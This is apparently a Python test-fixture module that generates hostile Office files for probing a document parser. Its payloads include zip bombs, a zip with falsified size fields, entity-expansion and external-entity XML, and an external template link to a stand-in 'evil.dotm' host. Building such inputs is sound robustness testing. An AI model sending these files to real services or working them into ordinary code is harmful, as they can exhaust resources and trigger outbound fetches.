"""Hostile Word and Excel files, which are zip files, and the heads of older ones."""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Iterable
from pathlib import Path

from hostile_common import TITLE, Lure, bomb, external

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MIB = 1024 * 1024
_TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml"
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
_RELATIONS = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
Target="word/document.xml"/></Relationships>"""
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _docx(path: Path, body: Iterable[str], prolog: str = "", extra: Iterable[tuple[str, str]] = ()) -> None:
    """A Word file of the three parts that it must have; the body is written piece by piece."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as packed:
        packed.writestr("[Content_Types].xml", _TYPES)
        packed.writestr("_rels/.rels", _RELATIONS)
        with packed.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document {_WORD}><w:body>'.encode())
            for piece in body:
                part.write(piece.encode())
            part.write(b"</w:body></w:document>")
        for name, text in extra:
            packed.writestr(name, text)


def zip_bomb(path: Path, _: Lure) -> None:
    _docx(path, (" " * MIB for _ in range(400)))


def zip_that_lies(path: Path, lure: Lure) -> None:
    """The directory says the document has 1,000 bytes; it has 400 MB."""
    zip_bomb(path, lure)
    data = path.read_bytes()
    real = struct.pack("<L", next(i.file_size for i in zipfile.ZipFile(path).infolist() if "document" in i.filename))
    path.write_bytes(data.replace(real, struct.pack("<L", 1000)))


def zip_of_many(path: Path, _: Lure) -> None:
    _docx(path, [_paragraph(TITLE)], extra=((f"word/media/{n}.xml", "") for n in range(60_000)))


def zip_of_twins(path: Path, _: Lure) -> None:
    """Two documents of the same name: which of them is read depends on the program."""
    _docx(path, [_paragraph(TITLE)], extra=[("word/document.xml", f"<w:document {_WORD}/>")])


def docx_of_rows(path: Path, _: Lure) -> None:
    chance = random.Random(1)
    rows = (
        f"<w:tr>{''.join(f'<w:tc>{_paragraph(str(chance.randrange(10**6)))}</w:tc>' for _ in range(3))}</w:tr>"
        for _ in range(100_000)
    )
    _docx(path, [_paragraph(TITLE), "<w:tbl>", *rows, "</w:tbl>"])


def docx_nested(path: Path, _: Lure) -> None:
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    _docx(path, [_paragraph(TITLE), opened * 500, _paragraph("1"), closed * 500])


def docx_spanning(path: Path, _: Lure) -> None:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{_paragraph("规章")}</w:tc>'
    _docx(path, [_paragraph(TITLE), f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * 3}</w:tbl>"])


def docx_entities(path: Path, _: Lure) -> None:
    _docx(path, [_paragraph(f"{TITLE}&e9;")], prolog=bomb("w:document"))


def docx_external(path: Path, lure: Lure) -> None:
    relations = f"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="{lure.url}/evil.dotm" TargetMode="External"/></Relationships>"""
    body = [_paragraph(TITLE), _paragraph("&f;&u;")]
    _docx(path, body, external(lure, "w:document"), [("word/_rels/document.xml.rels", relations)])


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BESIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _xlsx(path: Path, sheet: str, strings: str = "") -> None:
    types = _TYPES.replace("/word/document.xml", "/xl/workbook.xml").replace(
        "wordprocessingml.document", "spreadsheetml.sheet"
    )
    book = f"""<workbook xmlns="{_MAIN}" xmlns:r="{_BESIDE}">
<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>"""
    links = _RELATIONS.replace("word/document.xml", "worksheets/sheet1.xml").replace('/officeDocument"', '/worksheet"')
    shared = f'<Relationship Id="rId2" Type="{_BESIDE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", types)
        packed.writestr("_rels/.rels", _RELATIONS.replace("word/document.xml", "xl/workbook.xml"))
        packed.writestr("xl/workbook.xml", book)
        packed.writestr("xl/_rels/workbook.xml.rels", links.replace("</Relationships>", shared))
        packed.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_MAIN}">{sheet}</worksheet>')
        packed.writestr("xl/sharedStrings.xml", f'<sst xmlns="{_MAIN}">{strings}</sst>')


def xlsx_of_cells(path: Path, _: Lure) -> None:
    """A sheet that says it reaches to the last row and column, with one value there."""
    _xlsx(
        path,
        """<dimension ref="A1:XFD1048576"/><sheetData>
<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>
<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>""",
    )


def xlsx_of_one_text(path: Path, _: Lure) -> None:
    """30,000 cells that all show one text of a million characters."""
    row = "<row>" + '<c t="s"><v>0</v></c>' * 30 + "</row>"
    _xlsx(path, f"<sheetData>{row * 1000}</sheetData>", f"<si><t>{_noise(MIB)}</t></si>")


def docx_numbered_at_length(path: Path, _: Lure) -> None:
    """6,000 lines of a list whose number is a text of 100,000 characters."""
    numbering = (
        f"<w:numbering {_WORD}><w:abstractNum w:abstractNumId='1'><w:lvl w:ilvl='0'><w:numFmt w:val='decimal'/>"
        f"<w:lvlText w:val='%1{_noise(100_000)}'/></w:lvl></w:abstractNum><w:num w:numId='1'>"
        "<w:abstractNumId w:val='1'/></w:num></w:numbering>"
    )
    links = _RELATIONS.replace("word/document.xml", "numbering.xml").replace('/officeDocument"', '/numbering"')
    line = (
        "<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr></w:pPr><w:r><w:t>{}</w:t></w:r></w:p>"
    )
    extra = [("word/numbering.xml", numbering), ("word/_rels/document.xml.rels", links)]
    _docx(path, [_paragraph(TITLE), *(line.format(random.Random(n).random()) for n in range(6000))], extra=extra)


def _noise(characters: int) -> str:
    return random.Random(1).randbytes(characters // 2).hex()


def xlsx_bomb(path: Path, _: Lure) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", _TYPES)
        with packed.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _n in range(400):
                part.write(b" " * MIB)


def small_docx(path: Path, _: Lure) -> None:
    _docx(path, [_paragraph(TITLE)])


def ole(path: Path, _: Lure, *, stream: str) -> None:
    """The head of an OLE file and one directory entry: what tells an old or an encrypted document."""
    path.write_bytes(_OLE + bytes(1016) + stream.encode("utf-16-le").ljust(64, b"\x00") + bytes(2048))


def ofd(path: Path, _: Lure) -> None:
    with zipfile.ZipFile(path, "w") as packed:
        packed.writestr("OFD.xml", '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>')
